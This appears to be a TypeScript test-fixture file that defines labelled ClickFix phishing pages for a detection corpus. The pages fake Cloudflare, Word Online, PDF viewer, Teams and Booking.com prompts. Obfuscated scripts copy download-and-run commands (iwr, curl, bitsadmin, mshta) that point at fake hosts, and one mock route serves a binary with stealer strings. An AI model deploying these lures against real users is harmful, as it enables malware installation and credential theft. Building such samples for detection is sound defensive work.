import { type Entry, htmlRoute } from '../entry.js';
import { b64, codes, chunks, doc, cfCommand, clipJs, psStage, hta, textRoute } from '../parts/yz-kit.js';
import { pe, fileRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'yz-clickfix-cz-overeni-cloudflare-iwr',
  label: 'clickfix',
  kind: 'clickfix-fake-turnstile',
  url: 'https://www.ceske-recepty-babicky.cz/recept/svickova-na-smetane',
  body: doc({
    lang: 'cs',
    title: 'Okamžik, prosím…',
    css: `body{margin:0;font-family:-apple-system,Segoe UI,Arial,sans-serif;background:#fff;color:#313131}.w{max-width:60rem;margin:8rem auto 0;padding:0 1.5rem}h1{font-size:2.4rem;font-weight:500}
.box{border:1px solid #e0e0e0;background:#fafafa;padding:14px 18px;width:300px;display:flex;align-items:center;gap:12px}.box input{width:24px;height:24px}.st{display:none;margin-top:20px;border:1px solid #f6821f;padding:16px;max-width:520px}
.ft{margin-top:6rem;font-size:.75rem;color:#666;border-top:1px solid #eee;padding-top:10px}`,
    body: `<div class="w"><h1>www.ceske-recepty-babicky.cz</h1><h2 style="font-weight:400">Ověřte, že jste člověk. Může to trvat několik sekund.</h2>
<div class="box"><input type="checkbox" id="c"><span>Ověřte, že jste člověk</span></div>
<div class="st" id="st"><b>Dokončete ověření:</b><ol><li>Stiskněte klávesy <b>Windows + R</b></li><li>Stiskněte <b>Ctrl + V</b></li><li>Stiskněte <b>Enter</b></li></ol><p style="font-size:13px">Tento krok je nutný kvůli neobvyklému provozu z vaší sítě.</p></div>
<p>Web www.ceske-recepty-babicky.cz musí před pokračováním zkontrolovat zabezpečení vašeho připojení.</p>
<div class="ft">Ray ID: <code>8e4f1a2b9c7d3e10</code> · Výkon a zabezpečení od Cloudflare</div></div>`,
    tail: `<script>
var _p=[${chunks(cfCommand('iwr', 'https://recepty-cdn.cz-ver.cloud/c.txt', 'Ověření člověka – Ray ID 8e4f1a2b9c7d3e10'), 11).map((c) => JSON.stringify(c)).join(',')}];
${clipJs('cp', "_p.join('')")}
document.getElementById('c').addEventListener('change',function(){cp();document.getElementById('st').style.display='block'});
</script>`,
  }),
  routes: {
    'recepty-cdn.cz-ver.cloud/c.txt': textRoute(psStage('https://recepty-cdn.cz-ver.cloud/b.zip', 'OneDriveUpd'), 'text/plain'),
  },
},
{
  id: 'yz-clickfix-pl-word-online-blad-czcionek-enc',
  label: 'clickfix',
  kind: 'clickfix-fix-it-document',
  url: 'https://dokumenty-sharepoint.pl-office.live/:w:/r/umowa_najmu_2025.docx',
  body: doc({
    lang: 'pl',
    title: 'umowa_najmu_2025.docx – Microsoft Word Online',
    css: `body{margin:0;font-family:Segoe UI,Arial,sans-serif;background:#f3f2f1}.rb{background:#2b579a;color:#fff;padding:8px 16px;font-size:14px}.pg{max-width:700px;margin:20px auto;background:#fff;min-height:500px;padding:50px;filter:blur(4px);color:#444}
.dlg{position:fixed;top:20%;left:50%;transform:translateX(-50%);width:460px;background:#fff;border:1px solid #c8c6c4;box-shadow:0 6px 24px rgba(0,0,0,.25);padding:22px}.dlg button{background:#2b579a;color:#fff;border:0;padding:8px 18px}
.how{display:none;background:#f3f2f1;padding:12px;margin-top:12px;font-size:14px}`,
    body: `<div class="rb">Word · umowa_najmu_2025.docx · Tylko do odczytu</div>
<div class="pg"><h2>UMOWA NAJMU LOKALU MIESZKALNEGO</h2><p>zawarta w dniu ... pomiędzy ... a ...</p><p>§1 Wynajmujący oświadcza, że jest właścicielem lokalu ...</p></div>
<div class="dlg"><b>Błąd: „Nie można załadować czcionek dokumentu (kod 0x80070570)”</b>
<p>Aby poprawnie wyświetlić dokument, należy ręcznie zaktualizować pamięć podręczną czcionek.</p>
<button id="fix">Jak naprawić</button>
<div class="how" id="how">1. Kliknij prawym przyciskiem na <b>Start</b> i wybierz <b>Terminal (Administrator)</b>.<br>2. Wklej skopiowany kod (<b>Ctrl+V</b>) i naciśnij <b>Enter</b>.<br>3. Odśwież tę stronę.</div></div>`,
    tail: `<script>
var k=atob('${b64(cfCommand('enc', 'https://pl-office.live/fonts/fix.ps1', 'font cache repair'))}');
${clipJs('naprawa', 'k')}
document.getElementById('fix').onclick=function(){naprawa();document.getElementById('how').style.display='block';this.textContent='Skopiowano ✔'};
</script>`,
  }),
},
{
  id: 'yz-clickfix-cz-pdf-prohlizec-curl',
  label: 'clickfix',
  kind: 'clickfix-fix-it-document',
  url: 'https://prohlizec-dokumentu.cz-docs.app/faktura/FA2025-1029.pdf',
  routes: {
    'prohlizec-dokumentu.cz-docs.app/faktura/FA2025-1029.pdf': htmlRoute(doc({
      lang: 'cs',
      title: 'FA2025-1029.pdf',
      css: `body{margin:0;background:#323639;font-family:Segoe UI,Arial,sans-serif}.tb{background:#202124;color:#ddd;padding:10px 16px;font-size:13px}.pop{max-width:480px;margin:90px auto;background:#fff;border-radius:8px;padding:24px}
.pop ol{line-height:1.9}.k{display:inline-block;border:1px solid #999;border-bottom-width:3px;border-radius:4px;padding:0 6px;font-family:monospace}`,
      body: `<div class="tb">FA2025-1029.pdf · 1 / 2</div>
<div class="pop"><h3>Prohlížeč PDF: chybí komponenta pro zobrazení</h3><p>Dokument používá šifrování, které váš prohlížeč nepodporuje. Nainstalujte komponentu ověřeným příkazem:</p>
<ol><li>Stiskněte <span class="k">⊞ Win</span> + <span class="k">R</span></li><li>Vložte <span class="k">Ctrl</span> + <span class="k">V</span> (příkaz je již zkopírován)</li><li>Potvrďte <span class="k">Enter</span> a obnovte stránku</li></ol>
<button id="b" style="background:#1a73e8;color:#fff;border:0;padding:10px 20px;border-radius:4px">Zkopírovat příkaz znovu</button></div>`,
      tail: `<script>
${clipJs('zkopiruj', 'String.fromCharCode(' + codes(cfCommand('curl', 'https://cz-docs.app/k/pdfcomp.ps1', 'PDF komponenta v2')) + ')')}
document.addEventListener('click',zkopiruj,{once:true});document.getElementById('b').onclick=zkopiruj;
</script>`,
    })),
  },
},
{
  id: 'yz-clickfix-pl-teams-mikrofon-bitsadmin',
  label: 'clickfix',
  kind: 'clickfix-fix-it-meeting',
  url: 'https://teams-spotkanie.pl-meet.online/l/meetup-join/19-meeting-NzQ1ZjA5',
  body: doc({
    lang: 'pl',
    title: 'Microsoft Teams – dołącz do spotkania',
    css: `body{margin:0;background:#292929;color:#fff;font-family:Segoe UI,Arial,sans-serif}.w{max-width:620px;margin:60px auto;text-align:center}.cam{height:240px;background:#111;border-radius:6px;display:flex;align-items:center;justify-content:center;color:#aaa}
.err{background:#3b2a2a;border:1px solid #c4314b;padding:14px;margin-top:16px;text-align:left;border-radius:4px}.b{background:#6264a7;color:#fff;border:0;padding:10px 22px;border-radius:4px;margin-top:10px}`,
    body: `<div class="w"><h2>Spotkanie: Rozmowa rekrutacyjna – Specjalista ds. księgowości</h2><div class="cam">Kamera wyłączona</div>
<div class="err"><b>Nie wykryto mikrofonu ani głośników (błąd sterownika audio 0xC00D36D5)</b><p>Aby dołączyć do spotkania, zaktualizuj sterownik audio Teams:</p><ol><li>Kliknij „Napraw”</li><li>Naciśnij Win + R</li><li>Wklej (Ctrl + V) i naciśnij Enter</li></ol><button class="b" id="n">Napraw</button></div></div>`,
    tail: `<script>
var p='${b64(cfCommand('bitsadmin', 'https://pl-meet.online/drv/TeamsAudioFix.exe', 'Teams audio driver fix'))}';
${clipJs('napraw', 'atob(p)')}
document.getElementById('n').onclick=function(){napraw();this.textContent='Skopiowano. Teraz Win + R, Ctrl + V, Enter'};
</script>`,
  }),
  routes: {
    'pl-meet.online/drv/TeamsAudioFix.exe': fileRoute(pe({ strings: ['TeamsAudioFix', 'Lumma', 'steamcommunity.com/profiles/', 'wallet.dat'] }), 'application/octet-stream', 'TeamsAudioFix.exe'),
  },
},
{
  id: 'yz-clickfix-booking-ro-hotel-verificare',
  label: 'clickfix',
  kind: 'clickfix-fake-captcha',
  url: 'https://admin-booking.ro-extranet.com/hotel/verificare?rid=5129044871',
  routes: {
    'admin-booking.ro-extranet.com/hotel/verificare': htmlRoute(doc({
      lang: 'ro',
      title: 'Booking.com Extranet – Verificare',
      css: `body{margin:0;font-family:BlinkMacSystemFont,Arial,sans-serif;background:#f5f5f5}.h{background:#003580;color:#fff;padding:14px 24px;font-weight:700}.c{max-width:440px;margin:60px auto;background:#fff;border-radius:8px;padding:24px;box-shadow:0 2px 8px rgba(0,0,0,.15)}
.chk{display:flex;gap:10px;align-items:center;border:1px solid #ddd;padding:14px}.hide{display:none}`,
      body: `<div class="h">Booking.com · Extranet pentru parteneri</div>
<div class="c"><p>Un oaspete a lăsat o recenzie negativă și o plângere privind rezervarea <b>5129044871</b>. Pentru a vizualiza plângerea, confirmați că nu sunteți robot.</p>
<div class="chk" id="k"><input type="checkbox"> Nu sunt robot</div>
<div class="hide" id="p"><b>Verificare suplimentară necesară</b><ol><li>Apăsați Windows + R</li><li>Lipiți cu CTRL + V</li><li>Apăsați Enter</li></ol></div></div>`,
      tail: `<script>
var x=atob('${b64(cfCommand('mshta', 'https://ro-extranet.com/v/5129044871', 'I am not a robot - reCAPTCHA Verification ID: 5129'))}');
${clipJs('cl', 'x')}
document.getElementById('k').onclick=function(){cl();document.getElementById('p').classList.remove('hide')};
</script>`,
    })),
    'ro-extranet.com/v/5129044871': textRoute(hta('https://ro-extranet.com/v/x.ps1'), 'application/hta'),
  },
},
];
